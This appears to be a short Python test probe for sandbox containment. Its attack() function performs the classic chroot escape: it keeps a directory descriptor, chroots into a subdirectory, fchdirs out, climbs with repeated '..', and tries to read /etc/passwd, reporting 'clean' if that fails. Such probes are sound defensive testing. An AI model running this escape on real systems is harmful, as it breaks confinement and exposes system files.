# climbs out of its root through an open directory
import os


def attack():
    try:
        os.mkdir("cell")
        top = os.open(".", os.O_RDONLY)
        os.chroot("cell")
        os.fchdir(top)
    except OSError:
        pass
    for _ in range(20):
        os.chdir("..")
    try:
        open("etc/passwd").close()
    except OSError:
        return "clean"
    return loot("/etc/passwd through ..")
